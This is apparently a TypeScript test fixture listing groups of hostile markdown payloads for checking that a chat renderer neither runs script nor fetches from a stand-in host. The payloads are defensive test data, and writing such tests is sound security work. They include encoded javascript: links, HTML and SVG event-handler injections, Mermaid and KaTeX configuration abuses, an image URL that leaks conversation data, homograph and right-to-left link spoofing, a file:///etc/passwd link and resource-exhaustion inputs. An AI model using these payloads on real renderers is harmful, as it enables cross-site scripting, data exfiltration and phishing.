/** Markdown that would run or fetch something where a renderer let it. `hit()` is what the test listens for. */
export interface Payload {
  readonly name: string
  readonly markdown: string
}

/** Payloads that are sent in one message. One that leaves something open stands last. */
export interface PayloadGroup {
  readonly name: string
  readonly payloads: readonly Payload[]
}

/** A host that no test may ever ask anything of. */
export const foreignOrigin = 'https://foreign.example'

const f = foreignOrigin
const longPath = 'a/'.repeat(4000)

const images: Payload[] = [
  { name: 'an image', markdown: `![pixel](${f}/image.png)` },
  { name: 'an image with a title', markdown: `![pixel](${f}/title.png "Title")` },
  { name: 'an image by reference', markdown: `![pixel][image-ref]\n\n[image-ref]: ${f}/reference.png` },
  { name: 'an image by collapsed reference', markdown: `![image-two][]\n\n[image-two]: ${f}/collapsed.png` },
  { name: 'an image by shortcut reference', markdown: `![image-three]\n\n[image-three]: ${f}/shortcut.png` },
  { name: 'an image whose alt has an image', markdown: `![a ![b](${f}/inner.png)](${f}/outer.png)` },
  { name: 'an image in a link', markdown: `[![pixel](${f}/in-link.png)](${f}/)` },
  { name: 'an image without a scheme', markdown: '![pixel](//foreign.example/image.png)' },
  { name: 'an image behind backslashes', markdown: '![pixel](\\\\\\\\foreign.example\\image.png)' },
  { name: 'an image of data', markdown: '![pixel](data:image/svg+xml,<svg/onload=hit()>)' },
  { name: 'an image whose address leaks', markdown: `![x](${f}/leak?q=the+secret+of+this+conversation)` },
  { name: 'an image in a table', markdown: `| a |\n|---|\n| ![pixel](${f}/table.png) |` },
  { name: 'an image in a list', markdown: `- ![pixel](${f}/list.png)` },
  { name: 'an image in a heading', markdown: `# ![pixel](${f}/heading.png)` },
  { name: 'an image with handlers', markdown: `![pixel](${f}/x.png"onerror="hit\\(\\))` },
  { name: 'an image of HTML', markdown: `<img src="${f}/html.png" onerror="hit()">` },
  { name: 'an image of HTML in a line', markdown: `text <img src=x onerror=hit()> text` },
  { name: 'a set of sources', markdown: `<img srcset="${f}/1x.png 1x, ${f}/2x.png 2x" sizes="100vw">` },
  { name: 'a picture', markdown: `<picture><source srcset="${f}/p.webp"><img src="${f}/p.png"></picture>` },
  { name: 'an input that is an image', markdown: `<input type="image" src="${f}/input.png" onerror="hit()">` },
  { name: 'a background attribute', markdown: `<table background="${f}/background.png"><tr><td>x</td></tr></table>` },
  { name: 'image as a tag', markdown: `<image src=${f}/image-tag.png onerror=hit()>` },
]

const links: Payload[] = [
  { name: 'javascript', markdown: '[link](javascript:hit())' },
  { name: 'javascript in capitals', markdown: '[link](JAVASCRIPT:hit())' },
  { name: 'javascript in mixed case', markdown: '[link](JaVaScRiPt:hit())' },
  { name: 'javascript behind a space', markdown: '[link](< javascript:hit()>)' },
  { name: 'javascript with a tab', markdown: '[link](<java\tscript:hit()>)' },
  { name: 'javascript with tabs as entities', markdown: '[link](jav&#x09;ascript:hit())' },
  { name: 'javascript with a named tab', markdown: '[link](java&Tab;script:hit())' },
  { name: 'javascript with a named line', markdown: '[link](java&NewLine;script:hit())' },
  { name: 'javascript with a named colon', markdown: '[link](javascript&colon;hit())' },
  { name: 'javascript with a decimal letter', markdown: '[link](&#106;avascript:hit())' },
  { name: 'javascript with padded decimals', markdown: '[link](&#0000106avascript:hit())' },
  { name: 'javascript with a hexadecimal letter', markdown: '[link](&#x6A;avascript:hit())' },
  { name: 'javascript with a hexadecimal colon', markdown: '[link](javascript&#x3a;hit())' },
  { name: 'javascript in percent codes', markdown: '[link](%6Aavascript:hit())' },
  { name: 'javascript with a percent colon', markdown: '[link](javascript%3Ahit())' },
  { name: 'javascript with a control character', markdown: '[link](<\u0001javascript:hit()>)' },
  { name: 'javascript with a zero-width space', markdown: '[link](<java\u200bscript:hit()>)' },
  { name: 'javascript with a soft hyphen', markdown: '[link](<java\u00adscript:hit()>)' },
  { name: 'javascript with a byte order mark', markdown: '[link](<\ufeffjavascript:hit()>)' },
  { name: 'javascript with an override', markdown: '[link](<\u202ejavascript:hit()>)' },
  { name: 'javascript with an escape', markdown: '[link](javascript\\:hit())' },
  { name: 'javascript as a comment of an address', markdown: '[link](javascript://foreign.example/%0Ahit())' },
  { name: 'javascript by reference', markdown: '[link][script-ref]\n\n[script-ref]: javascript:hit()' },
  { name: 'javascript in angle brackets', markdown: '<javascript:hit()>' },
  { name: 'javascript with entities in angle brackets', markdown: '<javascript&colon;hit()>' },
  { name: 'javascript in a title', markdown: '[link](https://a.example/ "javascript:hit()")' },
  { name: 'javascript in an image', markdown: '![link](javascript:hit())' },
  { name: 'vbscript', markdown: '[link](vbscript:hit())' },
  { name: 'vbscript in mixed case', markdown: '[link](VbScRiPt:hit())' },
  { name: 'livescript', markdown: '[link](livescript:hit())' },
  { name: 'data with HTML', markdown: '[link](data:text/html,<script>hit()</script>)' },
  { name: 'data in base64', markdown: '[link](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)' },
  { name: 'data in mixed case', markdown: '[link](DaTa:text/html,hit)' },
  { name: 'data as XML', markdown: '[link](data:application/xhtml+xml,<script>hit()</script>)' },
  { name: 'a blob', markdown: '[link](blob:https://foreign.example/1)' },
  { name: 'a file', markdown: '[link](file:///etc/passwd)' },
  { name: 'a file system', markdown: '[link](filesystem:https://foreign.example/1)' },
  { name: 'the source of a page', markdown: '[link](view-source:https://foreign.example/)' },
  { name: 'an intent', markdown: '[link](intent://scan/#Intent;scheme=zxing;end)' },
  { name: 'a protocol of a program', markdown: '[link](ms-msdt:/id)' },
  { name: 'feed with a scheme inside', markdown: '[link](feed:javascript:hit())' },
  { name: 'an autolink', markdown: `${f}/auto <${f}/angle> www.foreign.example x@foreign.example` },
  { name: 'an autolink that breaks out', markdown: `${f}/"onmouseover="hit() and <${f}/'onfocus='hit()>` },
  { name: 'quotes in an address', markdown: `[link](<${f}/" onclick="hit()>)` },
  { name: 'quotes in a title', markdown: `[link](${f}/ '" onmouseover="hit()')` },
  { name: 'a link in the text of a link', markdown: `[a [b](${f}/b) c](javascript:hit())` },
  { name: 'markup in the text of a link', markdown: `[**a** \`b\` <img src=x onerror=hit()> ![c](${f}/c.png)](${f}/)` },
  { name: 'a definition that comes twice', markdown: `[twice]\n\n[twice]: ${f}/first\n[twice]: javascript:hit()` },
  { name: 'a definition over several lines', markdown: `[lines]\n\n[lines]:\njavascript:hit()\n"title"` },
  { name: 'a definition of an empty name', markdown: '[ ][]\n\n[ ]: javascript:hit()' },
  {
    name: 'a definition called like a property',
    markdown: '[__proto__] [constructor]\n\n[__proto__]: javascript:hit()',
  },
  { name: 'a footnote', markdown: `Text[^1] and[^<script>]\n\n[^1]: ![x](${f}/footnote.png) [y](javascript:hit())` },
  { name: 'a very long address', markdown: `[link](${f}/${longPath})` },
  { name: 'a very long scheme', markdown: `[link](${'j'.repeat(5000)}:hit())` },
  { name: 'credentials in an address', markdown: '[link](https://bank.example@foreign.example/)' },
  { name: 'a port that is none', markdown: '[link](https://foreign.example:99999/)' },
  { name: 'an address that is broken', markdown: '[link](https://[) and [link](https://%zz/) and [link](https:)' },
]

const spoofing: Payload[] = [
  { name: 'the text of another address', markdown: `[https://bank.example/login](${f}/login)` },
  { name: 'the text of another host', markdown: `[bank.example](${f}/login)` },
  { name: 'an overriding text', markdown: `[\u202emoc.knab//:sptth](${f}/rlo)` },
  { name: 'an override before a link', markdown: `\u202e[elpmaxe.knab](${f}/before) after` },
  { name: 'an isolate that is not closed', markdown: `\u2067[bank](${f}/isolate) after` },
  { name: 'an override as an entity', markdown: `[&#x202e;moc.knab](${f}/entity)` },
  { name: 'a homograph', markdown: '[apple](https://\u0430\u0440\u0440\u04cf\u0435.example/)' },
  { name: 'a homograph that stands for itself', markdown: '<https://\u0430\u0440\u0440\u04cf\u0435.example/>' },
  { name: 'a slash that is none', markdown: '[link](https://bank.example\u2044login.foreign.example/)' },
  { name: 'zero-width characters in a text', markdown: `[ba\u200bnk.exam\u200dple](${f}/zero)` },
  { name: 'zero-width characters in an address', markdown: '[link](https://for\u200beign.example/)' },
  { name: 'a text of nothing', markdown: `[\u200b](${f}/nothing)` },
  { name: 'a title of another address', markdown: `[bank](${f}/tooltip "https://bank.example/")` },
  { name: 'a title over lines', markdown: `[bank](${f}/tooltip "https://bank.example/\n\n")` },
  { name: 'many combining marks', markdown: `Z${'\u0301'.repeat(500)}` },
]

const elements: Payload[] = [
  { name: 'a script', markdown: '<script>hit()</script>' },
  { name: 'a script from elsewhere', markdown: `<script src="${f}/script.js"></script>` },
  { name: 'a script in capitals', markdown: '<SCRIPT>hit()</SCRIPT>' },
  { name: 'a script in a script', markdown: '<scr<script>ipt>hit()</scr</script>ipt>' },
  { name: 'a script behind a slash', markdown: `<script/x src=${f}/slash.js></script>` },
  { name: 'a module', markdown: `<script type="module">import "${f}/module.js"</script>` },
  { name: 'an import map', markdown: `<script type="importmap">{"imports":{"a":"${f}/a.js"}}</script>` },
  { name: 'speculation rules', markdown: `<script type="speculationrules">{"prefetch":[{"urls":["${f}/"]}]}</script>` },
  { name: 'a frame', markdown: `<iframe src="${f}/frame"></iframe>` },
  { name: 'a frame with a document', markdown: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>' },
  { name: 'a frame of a script', markdown: '<iframe src="javascript:parent.hit()"></iframe>' },
  { name: 'an object', markdown: `<object data="${f}/object.swf"></object>` },
  { name: 'an embed', markdown: `<embed src="${f}/embed.swf">` },
  { name: 'an applet', markdown: `<applet code="x" archive="${f}/applet.jar"></applet>` },
  { name: 'a stylesheet', markdown: `<link rel="stylesheet" href="${f}/style.css">` },
  {
    name: 'a prefetch',
    markdown: `<link rel="prefetch" href="${f}/prefetch"><link rel="preload" as="image" href="${f}/p">`,
  },
  { name: 'hints of hosts', markdown: `<link rel="dns-prefetch" href="${f}"><link rel="preconnect" href="${f}">` },
  { name: 'a manifest', markdown: `<link rel="manifest" href="${f}/m.json"><link rel="icon" href="${f}/i.png">` },
  { name: 'a style', markdown: `<style>@import "${f}/import.css"; body{background:url(${f}/url.png)}</style>` },
  { name: 'a font', markdown: `<style>@font-face{font-family:x;src:url(${f}/font.woff)}</style>` },
  { name: 'a style attribute', markdown: `<div style="background:url(${f}/inline.png)">x</div>` },
  { name: 'an overlay', markdown: '<div style="position:fixed;inset:0;z-index:9999">x</div>' },
  { name: 'a refresh', markdown: `<meta http-equiv="refresh" content="0;url=${f}/refresh">` },
  { name: 'a base', markdown: `<base href="${f}/">` },
  { name: 'a form', markdown: `<form action="${f}/form"><input name="password"><button>Send</button></form>` },
  { name: 'a button of a form', markdown: `<button formaction="javascript:hit()">Send</button>` },
  { name: 'an SVG that loads', markdown: '<svg onload="hit()"></svg>' },
  { name: 'an SVG that animates', markdown: '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>' },
  { name: 'an SVG that sets a link', markdown: '<svg><a><set attributeName=href to=javascript:hit()></set></a></svg>' },
  {
    name: 'an SVG with foreign content',
    markdown: `<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>`,
  },
  { name: 'an SVG that uses', markdown: `<svg><use href="${f}/use.svg#x"></use><image href="${f}/svg.png"/></svg>` },
  { name: 'an SVG with a script', markdown: '<svg><script>hit()</script></svg>' },
  {
    name: 'MathML',
    markdown: '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
  },
  {
    name: 'MathML that confuses',
    markdown: '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  },
  { name: 'a video', markdown: `<video src="${f}/video.mp4" poster="${f}/poster.png" autoplay></video>` },
  { name: 'a sound', markdown: `<audio src="${f}/audio.mp3" autoplay onerror="hit()"></audio>` },
  { name: 'a track', markdown: `<video><track default src="${f}/track.vtt"></video>` },
  { name: 'unfolding', markdown: '<details open ontoggle="hit()"><summary>x</summary></details>' },
  { name: 'a focus', markdown: '<input autofocus onfocus="hit()"><select autofocus onfocus=hit()></select>' },
  { name: 'a pointer', markdown: '<b onmouseover="hit()" onpointerenter="hit()" onclick="hit()">x</b>' },
  { name: 'a body', markdown: '<body onload="hit()" onpageshow="hit()">' },
  { name: 'a marquee', markdown: '<marquee onstart="hit()">x</marquee>' },
  { name: 'a template', markdown: '<template><script>hit()</script></template>' },
  { name: 'a shadow', markdown: '<div><template shadowrootmode="open"><script>hit()</script></template></div>' },
  { name: 'a portal', markdown: `<portal src="${f}/portal"></portal><fencedframe src="${f}/f"></fencedframe>` },
  { name: 'a link that pings', markdown: `<a href="${f}/" ping="${f}/ping" download>x</a>` },
  { name: 'a link that runs', markdown: '<a href="javascript:hit()" onclick="hit()">x</a>' },
  { name: 'a name that clobbers', markdown: '<img name="getElementById"><form id="documentElement"></form>' },
  {
    name: 'a popover',
    markdown: '<button popovertarget="x" onbeforetoggle="hit()">x</button><div popover id="x">x</div>',
  },
  { name: 'a custom element', markdown: '<x-y onanimationstart=hit() style="animation:x"></x-y>' },
  { name: 'a comment that ends early', markdown: '<!--><img src=x onerror=hit()>-->' },
  { name: 'a conditional comment', markdown: '<!--[if gte IE 4]><script>hit()</script><![endif]-->' },
  { name: 'a processing instruction', markdown: `<?xml-stylesheet href="javascript:hit()"?>` },
  { name: 'a declaration', markdown: `<!DOCTYPE x [<!ENTITY y SYSTEM "${f}/entity">]>` },
  { name: 'character data', markdown: '<![CDATA[<script>hit()</script>]]>' },
  {
    name: 'entities that become tags',
    markdown: '&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62;',
  },
  { name: 'HTML in a table', markdown: '| a |\n|---|\n| <img src=x onerror=hit()><br><script>hit()</script> |' },
  { name: 'HTML in a list', markdown: '- <script>hit()</script>\n- <svg onload=hit()>' },
  { name: 'HTML in emphasis', markdown: '**<img src=x onerror=hit()>** *<svg onload=hit()>*' },
  { name: 'HTML with a broken end', markdown: `<img src="x" onerror="hit()" a="` },
]

const code: Payload[] = [
  { name: 'a fence of HTML', markdown: '```html\n<script>hit()</script><img src=x onerror=hit()>\n```' },
  { name: 'a fence of SVG', markdown: '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"></svg>\n```' },
  { name: 'a fence whose language is markup', markdown: '```<img/src=x/onerror=hit()>\nx\n```' },
  { name: 'a fence whose language breaks out', markdown: '```js"onmouseover="hit()\nx\n```' },
  { name: 'a fence whose language is a path', markdown: `\`\`\`../../${f}/grammar\nx\n\`\`\`` },
  { name: 'a fence whose language is a property', markdown: '```__proto__\nx\n```\n\n```constructor\nx\n```' },
  { name: 'code with markup', markdown: '`<script>hit()</script>` and ``<img src=x onerror=hit()>``' },
  { name: 'an indented script', markdown: '    <script>hit()</script>' },
  { name: 'a fence with an override', markdown: '```js\nif (admin) { \u202e // nimda \u2066\n}\n```' },
  {
    name: 'a diagram that calls',
    markdown: '```mermaid\ngraph TD\n  A[x]\n  click A call hit()\n  click A hit "x"\n```',
  },
  {
    name: 'a diagram that links',
    markdown: '```mermaid\ngraph TD\n  A-->B\n  click A href "javascript:hit()" _self\n```',
  },
  {
    name: 'a diagram with labels of HTML',
    markdown: `\`\`\`mermaid\ngraph TD\n  A["<img src='${f}/label.png' onerror='hit()'>"]-->B\n\`\`\``,
  },
  {
    name: 'a diagram that sets itself up',
    markdown: `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(${f}/theme.png)}"}}%%\ngraph TD\n  A-->B\n\`\`\``,
  },
  {
    name: 'a diagram with front matter',
    markdown: `\`\`\`mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  fontFamily: "x; } * { background: url(${f}/font) }"\n---\ngraph TD\n  A-->B\n\`\`\``,
  },
  {
    name: 'a diagram with an image',
    markdown: `\`\`\`mermaid\nflowchart TD\n  A@{ img: "${f}/shape.png", label: "x", w: 60, h: 60 }\n\`\`\``,
  },
  {
    name: 'a diagram with a style',
    markdown: `\`\`\`mermaid\ngraph TD\n  A-->B\n  style A fill:url(${f}/fill.png)\n  classDef x background:url(${f}/class.png)\n\`\`\``,
  },
  {
    name: 'a diagram with links in a sequence',
    markdown:
      '```mermaid\nsequenceDiagram\n  participant A\n  link A: x @ javascript:hit()\n  A->>A: <script>hit()</script>\n```',
  },
  { name: 'a fence that is never closed', markdown: '````html\n<script>hit()</script>' },
]

/** A fence of a diagram: it is drawn, in a frame of its own, once it is whole. */
const diagram = (name: string, source: string): Payload => ({
  name,
  markdown: `\`\`\`mermaid\n${source}\n\`\`\``,
})

const diagrams: Payload[] = [
  diagram(
    'a diagram whose label runs',
    'graph TD\n  A["<script>hit()</script><svg onload=hit()>"]-->B["<iframe src=javascript:parent.hit()>"]',
  ),
  diagram(
    'a diagram with a label that never ends',
    'graph TD\n  A["<img src=x onerror=hit()//"]-->B[\'<svg/onload=hit()\']',
  ),
  diagram(
    'a diagram with entities for tags',
    'graph TD\n  A["&lt;img src=x onerror=hit()&gt; #lt;img src=x onerror=hit()#gt; #60;svg onload=hit()#62;"]-->B',
  ),
  diagram(
    'a diagram with markdown in a label',
    `graph TD\n  A["\`**x** <img src=x onerror=hit()> ![y](${f}/md.png) [z](javascript:hit())\`"]-->B`,
  ),
  diagram(
    'a diagram that calls back',
    'graph TD\n  A-->B\n  click A call hit("x") "tip"\n  click B callback "<img src=x onerror=hit()>"',
  ),
  diagram(
    'a diagram with links of many schemes',
    `graph TD\n  A-->B-->C\n  click A "java\tscript:hit()"\n  click B href "data:text/html,<script>hit()</script>" _top\n  click C "${f}/click" _parent`,
  ),
  diagram(
    'a diagram of loose settings',
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\ngraph TD\n  A["<img src='${f}/loose.png' onerror='hit()'>"]-->B`,
  ),
  diagram('a diagram in the sandbox of its library', '%%{init: {"securityLevel": "sandbox"}}%%\ngraph TD\n  A-->B'),
  diagram(
    'a diagram that imports styles',
    `%%{init: {"themeCSS": "@import url(${f}/theme.css); * { background: url(${f}/theme.png) } :host{}", "fontFamily": "x; } @import '${f}/font.css'; * { fill: url(${f}/font)"}}%%\ngraph TD\n  A-->B`,
  ),
  diagram(
    'a diagram with variables that break out',
    `%%{init: {"themeVariables": {"primaryColor": "red; } </style><script>hit()</script> * { background: url(${f}/var.png) }", "fontSize": "1px;background:url(${f}/size)"}}%%\ngraph TD\n  A-->B`,
  ),
  diagram(
    'a diagram that trusts all',
    '%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onerror", "onload"], "ALLOWED_URI_REGEXP": ".*"}}}%%\ngraph TD\n  A["<img src=x onerror=hit()>"]-->B',
  ),
  diagram(
    'a diagram with keys of prototypes',
    '%%{init: {"__proto__": {"securityLevel": "loose", "polluted": 1}, "constructor": {"prototype": {"htmlLabels": true}}, "prototype": {"x": 1}}}%%\ngraph TD\n  __proto__-->constructor\n  constructor-->toString',
  ),
  diagram(
    'a diagram with front matter of code',
    '---\ntitle: <img src=x onerror=hit()>\nconfig: !!js/function "function () { hit() }"\n---\ngraph TD\n  A-->B',
  ),
  diagram(
    'a diagram with a picture in disguise',
    `flowchart TD\n  A@{ "im\\x67": "${f}/hidden.png", w: 60, h: 60 }\n  B@{ shape: image, img: '${f}/single.png' }\n  C@{ icon: "${f}/icon.svg", form: "square" }`,
  ),
  diagram(
    'a diagram with styles that fetch',
    `graph TD\n  A-->B\n  style A fill:url(${f}/a.svg#x),filter:url(${f}/f.svg#x),background:image-set("${f}/set.png" 1x)\n  classDef c cursor:url(${f}/cursor.png),mask:url(${f}/mask.svg#m)\n  class B c\n  linkStyle 0 stroke:url(${f}/stroke.svg#x)`,
  ),
  diagram(
    'a diagram with a style that escapes',
    `graph TD\n  A-->B\n  classDef default fill:#fff;}</style><script>hit()</script><style>\n  style B fill:u\\72l(${f}/escaped.png)`,
  ),
  diagram(
    'a diagram with links of an actor',
    `sequenceDiagram\n  participant A\n  links A: {"x": "javascript:hit()", "y": "${f}/links"}\n  properties A: {"class": "x\\" onload=\\"hit()", "icon": "@${f}/p.png"}\n  A->>A: <b onmouseover=hit()>x</b>`,
  ),
  diagram(
    'a diagram with classes that link',
    `classDiagram\n  class A["<img src=x onerror=hit()>"]\n  A : +hit() <script>hit()</script>\n  link A "javascript:hit()" "tip"\n  click A call hit()\n  callback A "hit"`,
  ),
  diagram(
    'a plan that links',
    'gantt\n  title <img src=x onerror=hit()>\n  dateFormat YYYY-MM-DD\n  section <svg onload=hit()>\n  Task :a, 2026-01-01, 3d\n  click a href "javascript:hit()"\n  click a call hit()',
  ),
  diagram(
    'a plan of days that are all left out',
    'gantt\n  dateFormat YYYY-MM-DD\n  excludes monday,tuesday,wednesday,thursday,friday,saturday,sunday\n  Task :a, 2026-01-01, 3d',
  ),
  diagram(
    'a diagram with formulas',
    `graph TD\n  A["$$\\href{javascript:hit()}{x}\\includegraphics{${f}/katex.png}$$"]-->B`,
  ),
  diagram(
    'a map with markup',
    'mindmap\n  root((<img src=x onerror=hit()>))\n    <script>hit()</script>\n      ::icon(fa fa-book"><img src=x onerror=hit()>)',
  ),
  diagram(
    'a diagram with people from elsewhere',
    `C4Context\n  Person(a, "A", $sprite="${f}/c4.png", $link="javascript:hit()")\n  System(b, "<img src=x onerror=hit()>")\n  Rel(a, b, "x")`,
  ),
  diagram(
    'a diagram nested deeply',
    `graph TD\n${Array.from({ length: 70 }, (_, depth) => `subgraph s${depth}`).join('\n')}\nA-->B\n${'end\n'.repeat(70)}`,
  ),
  diagram('a huge diagram', `graph TD\n${'A-->B\n'.repeat(3000)}`),
]

const math: Payload[] = [
  { name: 'a formula that links', markdown: '$\\href{javascript:hit()}{x}$ and $$\\href{javascript:hit()}{y}$$' },
  { name: 'a formula with an address', markdown: '$\\url{javascript:hit()}$' },
  { name: 'a formula with a picture', markdown: `$\\includegraphics[width=1em]{${f}/formula.png}$` },
  { name: 'a formula with data', markdown: '$\\htmlData{onclick=hit()}{x}$ $\\htmlData{a=b}{x}$' },
  { name: 'a formula with a style', markdown: `$\\htmlStyle{background:url(${f}/style.png)}{x}$` },
  { name: 'a formula with a class', markdown: '$\\htmlClass{dialog}{x}$ $\\htmlId{main}{x}$' },
  { name: 'a huge rule', markdown: '$\\rule{100000em}{100000em}$' },
  { name: 'a huge space', markdown: '$a\\kern{100000em}b\\hspace{-100000em}c$' },
  {
    name: 'a colour that breaks out',
    markdown: '$\\color{red;background:url(x)}{x}$ $\\textcolor{#f00"onclick="hit()}{x}$',
  },
  { name: 'macros that never end', markdown: '$\\def\\a{\\a\\a}\\a$' },
  {
    name: 'macros that double',
    markdown: `$${['\\def\\a{xxxxxxxxxx}', ...'bcdefgh'.split('').map((name, index) => `\\def\\${name}{${`\\${'abcdefg'[index]}`.repeat(10)}}`)].join('')}\\h$`,
  },
  { name: 'macros that reach further', markdown: '$\\gdef\\frac{\\href{javascript:hit()}{x}}$ and $\\frac{1}{2}$' },
  { name: 'a formula with markup', markdown: '$\\text{<img src=x onerror=hit()>}$ $<script>hit()</script>$' },
  { name: 'a formula nested deeply', markdown: `$${'{'.repeat(500)}x${'}'.repeat(500)}$` },
  { name: 'a formula that is an error', markdown: '$\\undefined{<img src=x onerror=hit()>}$' },
  { name: 'a formula in a fence', markdown: '```math\n\\href{javascript:hit()}{x}\n```' },
]

const shapes: Payload[] = [
  { name: 'quotes nested deeply', markdown: `${'> '.repeat(200)}x` },
  {
    name: 'lists nested deeply',
    markdown: Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  },
  { name: 'brackets without an end', markdown: `${'['.repeat(2000)}x` },
  { name: 'images without an end', markdown: `${'!['.repeat(1000)}x](${f}/` },
  { name: 'emphasis without an end', markdown: '*a **b '.repeat(800) },
  { name: 'a table of many columns', markdown: `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${'|x'.repeat(300)}|` },
  { name: 'a line without a break', markdown: 'x'.repeat(20_000) },
  { name: 'an entity of nothing', markdown: '&#0; &#xD800; &#x110000; &#99999999999; &nosuch;' },
  { name: 'a null', markdown: `<scr\u0000ipt>hit()</script> [x](java\u0000script:hit())` },
  { name: 'half a character', markdown: `[x](${f}/\ud83d) \ud83d` },
]

/** All payloads: each group is a message, and comes back as the reply to it. */
export const payloadGroups: readonly PayloadGroup[] = [
  { name: 'images', payloads: images },
  { name: 'links', payloads: links },
  { name: 'spoofing', payloads: spoofing },
  { name: 'elements', payloads: elements },
  { name: 'math', payloads: math },
  { name: 'diagrams', payloads: diagrams },
  { name: 'code', payloads: code },
  { name: 'shapes', payloads: shapes },
]
